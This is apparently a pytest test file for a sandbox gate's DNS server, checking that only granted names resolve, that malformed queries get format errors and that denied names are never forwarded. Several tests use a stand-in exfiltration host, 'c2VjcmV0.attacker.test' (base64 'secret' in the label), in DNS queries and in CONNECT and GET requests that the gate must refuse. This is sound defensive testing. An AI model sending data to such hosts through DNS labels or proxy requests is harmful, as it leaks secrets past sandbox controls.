"""The bottle's name server: granted names, nothing else, nothing forwarded."""

from __future__ import annotations

import socket
import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claude_bottle.gate import core, dns
from claude_bottle.gate.core import CLIENT
from claude_bottle.gate.dns_stream import DnsStream
from claude_bottle.model.policy import Rule
from claude_bottle.testing.playbook import split
from tests.gate.conftest import HOST, OTHER, Rig
from tests.waiting import SECONDS

A, AAAA, TXT, SVCB, HTTPS, ANY = 1, 28, 16, 64, 65, 255
OPT = b"\0\0\x29\4\xd0\0\0\0\0\0\0"


def question(name: str, kind: int = A, klass: int = 1) -> bytes:
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split(".") if label)
    return labels + b"\0" + struct.pack(">HH", kind, klass)


def query(name: str, kind: int = A, *, edns: bool = False, flags: int = 0x0100) -> bytes:
    return struct.pack(">HHHHHH", 7, flags, 1, 0, 0, int(edns)) + question(name, kind) + (OPT if edns else b"")


@pytest.fixture
def book() -> dns.AddressBook:
    return dns.AddressBook([HOST, OTHER])


def code(wire: bytes | None) -> int:
    assert wire is not None
    return wire[3] & 15


def answers(wire: bytes | None) -> int:
    assert wire is not None
    return wire[6] << 8 | wire[7]


@pytest.mark.parametrize("edns", [False, True])
def test_a_granted_name_has_one_synthetic_address(book: dns.AddressBook, edns: bool) -> None:
    wire = dns.answer(query(HOST, edns=edns), book).wire
    assert (code(wire), answers(wire)) == (0, 1)
    assert socket.inet_aton("198.18.0.2") in (wire or b"")
    assert book.name("198.18.0.2") == HOST


@pytest.mark.parametrize("kind", [AAAA, TXT, SVCB, HTTPS])
def test_another_type_of_a_granted_name_is_no_data(book: dns.AddressBook, kind: int) -> None:
    wire = dns.answer(query(HOST, kind), book).wire
    assert (code(wire), answers(wire)) == (0, 0)


@pytest.mark.parametrize("kind", [A, AAAA, TXT, ANY])
@pytest.mark.parametrize("name", ["c2VjcmV0.attacker.test", "x.api.example.com", "example.com", "com", "localhost"])
def test_a_name_that_is_not_granted_does_not_exist(book: dns.AddressBook, name: str, kind: int) -> None:  # threats 29
    answer = dns.answer(query(name, kind), book)
    assert code(answer.wire) == 3
    assert answer.denied == name.lower()


def test_the_gate_has_a_name(book: dns.AddressBook) -> None:
    assert socket.inet_aton("198.18.0.1") in (dns.answer(query("bottle.internal"), book).wire or b"")


def test_letter_case_is_answered_as_it_was_asked(book: dns.AddressBook) -> None:
    wire = dns.answer(query("API.Example.COM"), book).wire
    assert answers(wire) == 1
    assert b"\3API\7Example\3COM" in (wire or b"")


@pytest.mark.parametrize(
    "message",
    [
        struct.pack(">HHHHHH", 7, 256, 2, 0, 0, 0) + question(HOST) * 2,
        struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1",
        struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + question(HOST) + b"trailing",
        struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\3a.b\0\0\1\0\1",
        struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\2\0a\0\0\1\0\1",
        struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 1) + question(HOST) + b"\0\0\x10\0\1\0\0\0\0\0\0",
        struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + question(HOST)[:-3],
    ],
)
def test_a_malformed_query_is_a_format_error(book: dns.AddressBook, message: bytes) -> None:
    assert code(dns.answer(message, book).wire) == 1


@pytest.mark.parametrize("message", [b"", b"\0" * 11, query(HOST, flags=0x8180)])
def test_what_is_no_query_gets_no_answer(book: dns.AddressBook, message: bytes) -> None:
    assert dns.answer(message, book).wire is None


@given(st.binary(max_size=300))
def test_any_bytes_are_survived(data: bytes) -> None:
    book = dns.AddressBook([HOST])
    for start in (b"", struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0), query(HOST)):
        answer = dns.answer(start + data, book)
        assert answer.wire is None or len(answer.wire) >= 12


@given(st.lists(st.integers(1, 30), max_size=30))
def test_queries_over_a_stream_are_answered_in_any_segmentation(sizes: list[int]) -> None:
    one = query(HOST)
    names: list[str] = []
    stream, sent = DnsStream(dns.AddressBook([HOST]), names.append), b""
    wire = (len(one).to_bytes(2, "big") + one) * 3
    for piece in split(wire, sizes):
        for command in stream.handle(core.Received(CLIENT, piece)):
            assert isinstance(command, core.Write)
            sent += bytes(command.data)
    assert sent.count(socket.inet_aton("198.18.0.2")) == 3


def test_addresses_are_never_given_twice() -> None:
    names = [f"h{number}.example.com" for number in range(600)]
    book = dns.AddressBook(names)
    assert len({book.address(name) for name in names}) == 600
    assert book.address("h300.example.com") == "198.18.1.46"


def test_a_denied_name_is_never_resolved(rig: Rig) -> None:  # threats 29
    asked: list[str] = []

    def recording(host: str, port: int) -> list[tuple[int, tuple[object, ...]]]:
        asked.append(host)
        raise OSError("no such name")

    gate = rig.gate(Rule(HOST), resolver=recording, names=("proxy", "dns-udp"))
    with gate.connect() as client:
        client.sendall(b"CONNECT c2VjcmV0.attacker.test:443 HTTP/1.1\r\nHost: c2VjcmV0.attacker.test:443\r\n\r\n")
        assert b" 403 " in client.recv(4096)
    with gate.connect() as client:
        client.sendall(b"GET http://c2VjcmV0.attacker.test/ HTTP/1.1\r\nHost: c2VjcmV0.attacker.test\r\n\r\n")
        assert b" 403 " in client.recv(4096)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(SECONDS)
        client.sendto(query("c2VjcmV0.attacker.test"), ("127.0.0.1", gate.ports["dns-udp"]))
        assert code(client.recv(4096)) == 3
    assert asked == []
